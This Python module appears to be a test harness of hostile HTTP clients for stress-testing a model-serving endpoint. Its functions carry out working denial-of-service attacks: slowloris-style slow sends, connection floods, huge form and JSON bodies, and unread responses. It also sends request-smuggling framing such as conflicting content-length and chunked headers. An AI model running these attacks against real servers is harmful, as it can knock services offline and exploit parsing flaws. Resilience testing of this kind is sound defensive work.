"""What hostile clients do, one function each: it gets the server's address, and says what came of it."""

from __future__ import annotations

import socket
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from time import monotonic, sleep

Address = tuple[str, int]
Attack = Callable[[Address], str]
MIB = 1 << 20
SECONDS = 120
"""The longest that an answer is waited for."""
HOLD = 15
"""Seconds for which connections are held."""
PATH = "/predictions/bert"
JSON, FORM = "application/json", "application/x-www-form-urlencoded"
TEXT = "A man is eating food, and a woman is playing the violin while a cheetah runs behind its prey. " * 20
SMALL = b'{"inputs": "a"}'


def head(length: int | str, kind: str = JSON, path: str = PATH) -> bytes:
    """Of a request."""
    return f"POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\r\n".encode()


def status(connection: socket.socket, seconds: float = SECONDS) -> str:
    """Of the answer, or what there is instead."""
    connection.settimeout(seconds)
    try:
        line = connection.recv(64)
    except OSError as error:
        return type(error).__name__
    return line.split(b" ")[1].decode("latin-1") if line.startswith(b"HTTP/") else "closed"


def asked(connection: socket.socket) -> str:
    """The status of an ordinary request on a connection that is there."""
    try:
        connection.sendall(head(len(SMALL)) + SMALL)
    except OSError as error:
        return type(error).__name__
    return status(connection)


def ask(address: Address, raw: bytes, seconds: float = SECONDS) -> str:
    """Send these bytes; a server may answer, and close, before it has read them all."""
    with socket.create_connection(address, SECONDS) as connection:
        with suppress(OSError):
            connection.sendall(raw)
        return status(connection, seconds)


def tally(found: Sequence[str]) -> str:
    """`3 x 200, 1 x 413`."""
    return ", ".join(f"{count} x {what}" for what, count in sorted(Counter(found).items()))


@contextmanager
def connections(address: Address, count: int) -> Iterator[list[socket.socket]]:
    """That many, closed at the end."""
    with ExitStack() as stack:
        yield [stack.enter_context(socket.create_connection(address, SECONDS)) for _ in range(count)]


def idle(address: Address) -> str:
    """500 connections that say nothing; then one after the other asks."""
    with connections(address, 500) as held:
        sleep(HOLD)
        return tally([asked(each) for each in held])


def slow(address: Address) -> str:
    """150 heads and 150 bodies that come byte by byte, one a second."""
    with connections(address, 300) as held:
        for each in held[150:]:
            each.sendall(head(1000))
        until, dropped = monotonic() + HOLD, set()
        while monotonic() < until:
            for number, each in enumerate(held):
                try:
                    each.sendall(b"P" if number < 150 else b" ")
                except OSError:
                    dropped.add(number)
            sleep(1)
        return f"{len(held) - len(dropped)} still open after {HOLD} s"


def half_sent(address: Address) -> str:
    """200 bodies of 10 MiB of which 5 MiB come."""
    piece = bytes(5 * MIB)

    def send(connection: socket.socket) -> str:
        try:
            connection.sendall(head(10 * MIB) + piece)
        except OSError as error:
            return type(error).__name__
        return "taken"

    with connections(address, 200) as held, ThreadPoolExecutor(8) as senders:
        found = list(senders.map(send, held))
        sleep(HOLD)
        return tally(found)


def posts(bodies: Callable[[], tuple[bytes, str]], count: int = 1) -> Attack:
    """An attack that sends the same body so many times at once."""

    def attack(address: Address) -> str:
        body, kind = bodies()
        with ThreadPoolExecutor(count) as senders:
            return tally(list(senders.map(lambda _: ask(address, head(len(body), kind) + body), range(count))))

    return attack


def fields(count: int) -> tuple[bytes, str]:
    """A form."""
    return b"&".join(b"f%d=v" % number for number in range(count)), FORM


def parts(count: int) -> tuple[bytes, str]:
    """A form of the other kind."""
    each = b'--x\r\ncontent-disposition: form-data; name="f%d"\r\n\r\nv\r\n'
    return b"".join(each % number for number in range(count)) + b"--x--\r\n", "multipart/form-data; boundary=x"


def values(value: bytes, size: int) -> tuple[bytes, str]:
    """JSON: a list that repeats the value until it has that size."""
    return b'{"inputs": [' + (value + b",") * (size // (len(value) + 1)) + value + b"]}", JSON


def keys(count: int) -> tuple[bytes, str]:
    """JSON: an object with so many keys."""
    return b"{" + b",".join(b'"k%d":1' % number for number in range(count)) + b"}", JSON


def never_read(address: Address) -> str:
    """100 clients that ask for answers of 18 MB, read nothing of them, and leave."""
    body = b'{"inputs": [' + b",".join([b'"' + TEXT.encode() + b'"'] * 16) + b"]}"
    with connections(address, 100) as held:
        for each in held:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            each.sendall(head(len(body), path=f"{PATH}/1.0/hidden-states") + body)
        sleep(2 * HOLD)
    return "left"


def tricks(address: Address) -> str:
    """Framing that servers read in different ways, and requests in a row."""
    line = b"POST " + PATH.encode() + b" HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
    chunked = line + b"transfer-encoding: chunked\r\n"
    whole = head(len(SMALL)) + SMALL
    sent = [
        chunked + b"\r\n" + b"".join(b"1\r\n%c\r\n" % byte for byte in SMALL) + b"0\r\n\r\n",
        chunked + b"\r\n-1\r\n" + SMALL + b"\r\n0\r\n\r\n",
        chunked + b"\r\nffffffff\r\n" + SMALL,
        chunked + b"\r\nf;" + b"x" * MIB + b"\r\n" + SMALL + b"\r\n0\r\n\r\n",
        chunked + b"content-length: 3\r\n\r\nf\r\n" + SMALL + b"\r\n0\r\n\r\n",
        line + b"transfer-encoding: xchunked\r\n\r\nf\r\n" + SMALL + b"\r\n0\r\n\r\n",
        line + b"content-length: 15\r\ncontent-length: 16\r\n\r\n" + SMALL,
        head("-1") + SMALL,
        head("+15") + SMALL,
        head(10**20) + SMALL,
        line + b"".join(b"x-%d: a\r\n" % number for number in range(100_000)) + b"\r\n",
        line + b"x: " + b"a" * MIB + b"\r\n\r\n",
        b"POST /" + b"a" * (10 * MIB) + b" HTTP/1.1\r\nhost: a\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00" + bytes(512),
        b"\x00" * 4096 + b"\r\n\r\n",
        whole * 50,
    ]
    return tally([ask(address, raw, HOLD) for raw in sent])


def opened(address: Address) -> str:
    """20,000 connections, opened and closed."""

    def open_and_close(_: int) -> str:
        try:
            socket.create_connection(address, SECONDS).close()
        except OSError as error:
            return type(error).__name__
        return "opened"

    with ThreadPoolExecutor(16) as openers:
        return tally(list(openers.map(open_and_close, range(20_000))))


ATTACKS: dict[str, Attack] = {
    "500 idle connections": idle,
    "300 slow heads and bodies": slow,
    "200 half-sent bodies of 10 MiB": half_sent,
    "form of 1e5 fields": posts(lambda: fields(100_000)),
    "form of 1e6 fields, 10 MB": posts(lambda: fields(1_000_000)),
    "form of 6e6 fields, 64 MB": posts(lambda: fields(6_000_000)),
    "multipart form of 1e5 parts": posts(lambda: parts(100_000)),
    "8 JSON texts of 64 MiB": posts(lambda: values(b'"' + b"a " * (32 * MIB) + b'"', 1), 8),
    "8 JSON texts of 15 MiB": posts(lambda: values(b'"' + b"a " * (7 * MIB) + b'"', 1), 8),
    "8 JSON lists of lists, 63 MiB": posts(lambda: values(b"[]", 63 * MIB), 8),
    "8 JSON lists of lists, 15 MiB": posts(lambda: values(b"[]", 15 * MIB), 8),
    "8 JSON lists of lists, 140 KiB": posts(lambda: values(b"[]", 140 << 10), 8),
    "8 JSON objects of 1e6 keys": posts(lambda: keys(1_000_000), 8),
    "chunks, lengths and requests in a row": tricks,
    "20,000 connections": opened,
    "100 answers of 18 MB never read": never_read,
}
"""The last one is what the server has to do most for."""
